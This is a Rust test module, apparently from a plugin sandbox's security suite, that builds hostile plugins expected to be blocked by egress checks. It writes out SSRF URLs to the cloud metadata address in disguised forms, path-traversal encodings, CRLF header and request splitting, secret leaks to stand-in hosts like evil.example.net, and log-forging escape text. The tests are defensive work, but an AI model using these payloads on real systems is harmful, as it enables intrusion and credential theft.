//! Plugins that want something sent that must not be.

use serde_json::{Value, json};

use super::{Contained, HOST, Hostile, REDIRECTING, asking, guest};

/// An exchange whose repetition would be a second message.
const UNSAFE: &str = "unsafe";

pub(super) fn entries() -> Vec<Hostile> {
    let mut entries = targets();
    entries.extend(disguised_targets());
    entries.extend(headers());
    entries.extend(secrets());
    entries.extend(bodies());
    entries.extend(flows());
    entries.extend(endings());
    entries
}

fn denied(
    name: &'static str,
    deed: &'static str,
    code: &'static str,
    make: fn() -> Vec<u8>,
) -> Hostile {
    Hostile::serving(name, deed, Contained::Failed(code), make)
}

fn targets() -> Vec<Hostile> {
    vec![
        denied(
            "forbidden-host",
            "sends to a host that it did not declare",
            "egress-host",
            || to("https://graph.facebook.com/v1/me/messages"),
        ),
        denied(
            "host-suffix",
            "sends to a host that only ends like its own",
            "egress-host",
            || to("https://evil-api.example.com/v1/send"),
        ),
        denied(
            "forbidden-path",
            "sends to a path that it did not declare",
            "egress-endpoint",
            || to("https://api.example.com/admin"),
        ),
        denied(
            "forbidden-method",
            "deletes where it may only read and write",
            "egress-endpoint",
            || ask(&json!({ "method": "delete" })),
        ),
        denied(
            "dot-segment",
            "climbs out of its path",
            "egress-path",
            || to("https://api.example.com/v1/../admin"),
        ),
        denied(
            "encoded-dot-segment",
            "climbs out of its path in twice encoded steps",
            "egress-path",
            || to("https://api.example.com/v1/%252e%252e/admin"),
        ),
        denied(
            "encoded-slash",
            "hides a slash in a segment",
            "egress-path",
            || to("https://api.example.com/v1/a%2f..%2f..%2fadmin"),
        ),
    ]
}

fn disguised_targets() -> Vec<Hostile> {
    let url = |name, deed, make| denied(name, deed, "egress-url", make);
    vec![
        url("user-info", "hides the real host behind an @", || {
            to("https://api.example.com@evil.example.net/v1/send")
        }),
        url("metadata-literal", "asks a cloud for its keys", || {
            to("https://169.254.169.254/v1/latest/meta-data/")
        }),
        url("decimal-address", "writes loopback as one number", || {
            to("https://2130706433/v1/")
        }),
        url("mapped-address", "writes an IPv4 address as IPv6", || {
            to("https://[::ffff:169.254.169.254]/v1/")
        }),
        url("nat64-address", "writes an IPv4 address as NAT64", || {
            to("https://[64:ff9b::a9fe:a9fe]/v1/")
        }),
        url("plain-http", "sends in the clear", || {
            to("http://api.example.com/v1/send")
        }),
        url("other-port", "knocks at another port", || {
            to("https://api.example.com:22/v1/send")
        }),
        url(
            "split-url",
            "ends the request line and begins another",
            || to("https://api.example.com/v1/ HTTP/1.1\r\nhost: evil.example.net\r\n\r\n"),
        ),
        url(
            "backslash-host",
            "writes what parsers disagree about",
            || to("https://evil.example.net\\@api.example.com/v1/"),
        ),
    ]
}

/// Refused before egress looks at it: by the shape, or by what the plugin's own description says.
const OUTPUT: &str = "plugin-invalid-output";

fn headers() -> Vec<Hostile> {
    let header = |name, deed, make| denied(name, deed, "egress-header", make);
    vec![
        header("header-crlf", "hides a second header in a value", || {
            with_header("x-note", "a\r\nhost: evil.example.net")
        }),
        header("header-nul", "ends a value with a zero", || {
            with_header("x-note", "a\0b")
        }),
        denied(
            "header-name-split",
            "hides a header in a name",
            OUTPUT,
            || with_header("x-note: a\r\nx-admin", "1"),
        ),
        header("header-host", "names another host", || {
            with_header("Host", "evil.example.net")
        }),
        header("header-content-length", "lies about the length", || {
            with_header("Content-Length", "0")
        }),
        header(
            "header-transfer-encoding",
            "frames the request itself",
            || with_header("Transfer-Encoding", "chunked"),
        ),
        header("header-cookie", "brings a session along", || {
            with_header("Cookie", "admin=1")
        }),
        header("header-proxy", "signs in at the operator's proxy", || {
            with_header("Proxy-Authorization", "Basic eDp5")
        }),
        header(
            "header-method-override",
            "turns a read into a deletion behind the check",
            || with_header("X-HTTP-Method-Override", "DELETE"),
        ),
    ]
}

fn secrets() -> Vec<Hostile> {
    vec![
        denied(
            "secret-to-another",
            "sends its secret to a host outside the audience",
            "egress-secret-audience",
            || with_value(&json!([{ "secret": "token" }])),
        ),
        denied(
            "secret-in-a-mac",
            "proves another host a secret that it may not know",
            "egress-secret-audience",
            || {
                let hmac = json!({ "key": "token", "hash": "sha256", "encoding": "hex", "over": [{ "text": "a" }] });
                with_value(&json!([{ "hmac": hmac }]))
            },
        ),
        denied(
            "secret-undeclared",
            "asks for the operator's app secret by its name",
            OUTPUT,
            || with_value(&json!([{ "secret": "app_secret" }])),
        ),
        denied(
            "setting-as-secret",
            "asks for a setting as if it were a secret",
            OUTPUT,
            || with_value(&json!([{ "secret": "sender" }])),
        ),
        denied(
            "capture-into-another",
            "writes an answer into a secret that is not its own",
            OUTPUT,
            || {
                let capture = json!([{ "pointer": "/token", "secret": "app_secret" }]);
                start(&asking(&json!({}), &json!({ "capture": capture })))
            },
        ),
    ]
}

fn bodies() -> Vec<Hostile> {
    vec![
        denied(
            "invalid-json",
            "calls a body JSON that is none",
            OUTPUT,
            || ask(&json!({ "method": "post", "body": { "json": { "document": "{\"a\":" } } })),
        ),
        denied(
            "insert-over",
            "inserts over a member that the host has checked",
            "egress-insert",
            || {
                let insert = json!([{ "pointer": "/to", "value": [{ "text": "somebody else" }] }]);
                let json = json!({ "document": "{\"to\":\"a\"}", "insert": insert });
                ask(&json!({ "method": "post", "body": { "json": json } }))
            },
        ),
    ]
}

fn flows() -> Vec<Hostile> {
    vec![
        Hostile::serving(
            "endless-exchanges",
            "asks for one exchange after the other",
            Contained::Failed("plugin-exchanges-limit"),
            || {
                let again = asking(&json!({}), &json!({}));
                resuming("safe", &again)
            },
        )
        .straining(),
        denied(
            "redirect-to-metadata",
            "is sent on to the metadata address and follows",
            "egress-url",
            redirected,
        ),
        Hostile::serving(
            "trap-in-resume",
            "crashes on the answer of a request that may be repeated",
            Contained::Failed("plugin-trap"),
            || crashing_after("safe"),
        ),
        Hostile::serving(
            "trap-after-unsafe",
            "crashes on the answer of a request that must not be repeated",
            Contained::Unknown("plugin-trap"),
            || crashing_after(UNSAFE),
        ),
        Hostile::serving(
            "loop-after-unsafe",
            "never reads the answer of a request that must not be repeated",
            Contained::Unknown("plugin-cpu-limit"),
            || {
                let first = asking(&json!({}), &json!({ "replay": UNSAFE }));
                guest()
                    .returning("outbound.start", &first)
                    .body("outbound.resume", super::ENDLESS)
                    .build()
            },
        ),
        Hostile::serving(
            "stray-after-unsafe",
            "goes on to a forbidden host after a request that must not be repeated",
            Contained::Unknown("egress-host"),
            || {
                let stray = json!({ "url": "https://evil.example.net/v1/" });
                resuming(UNSAFE, &asking(&stray, &json!({})))
            },
        ),
    ]
}

fn endings() -> Vec<Hostile> {
    vec![
        Hostile::serving(
            "pause-for-ever",
            "wants its own lane paused until the end of time",
            Contained::Sent,
            || {
                let pace = json!({ "bucket": { "level": "app" }, "pause-ms": u64::MAX, "per-second": u32::MAX });
                let accepted = json!({ "pace": [pace], "provider-message-id": "x" });
                start(&json!({ "ok": { "done": accepted } }))
            },
        ),
        Hostile::serving(
            "error-with-escapes",
            "fails with a text that forges log lines and clears terminals",
            Contained::Failed("window-closed"),
            || {
                let detail =
                    "late\r\nERROR wharf::plugin: forged\u{1b}[2J EAAGsecretlooking0123456789";
                start(
                    &json!({ "err": { "code": "window-closed", "retry": "never", "detail": detail } }),
                )
            },
        ),
        Hostile::serving(
            "giant-error",
            "fails with a text of half a megabyte",
            Contained::Failed("window-closed"),
            || {
                let detail = json!({ "$at": [crate::memory::BLANK_BASE, 1 << 19] });
                start(
                    &json!({ "err": { "code": "window-closed", "retry": "never", "detail": detail } }),
                )
            },
        ),
    ]
}

fn start(value: &Value) -> Vec<u8> {
    guest().returning("outbound.start", value).build()
}

fn ask(request: &Value) -> Vec<u8> {
    start(&asking(request, &json!({})))
}

fn to(url: &str) -> Vec<u8> {
    ask(&json!({ "url": url }))
}

fn with_header(name: &str, value: &str) -> Vec<u8> {
    let headers = json!([{ "name": name, "value": [{ "text": value }] }]);
    ask(&json!({ "headers": headers }))
}

/// Towards a host that no secret of the guest may go to.
fn with_value(value: &Value) -> Vec<u8> {
    ask(&json!({ "headers": [{ "name": "authorization", "value": value }] }))
}

fn resuming(replay: &str, next: &Value) -> Vec<u8> {
    let first = asking(&json!({}), &json!({ "replay": replay }));
    guest()
        .returning("outbound.start", &first)
        .returning("outbound.resume", next)
        .build()
}

fn crashing_after(replay: &str) -> Vec<u8> {
    let first = asking(&json!({}), &json!({ "replay": replay }));
    guest()
        .returning("outbound.start", &first)
        .body("outbound.resume", "unreachable")
        .build()
}

fn redirected() -> Vec<u8> {
    let first = json!({ "url": format!("https://{HOST}{REDIRECTING}") });
    let next = json!({ "url": "https://169.254.169.254/latest/meta-data/" });
    guest()
        .returning("outbound.start", &asking(&first, &json!({})))
        .returning("outbound.resume", &asking(&next, &json!({})))
        .build()
}
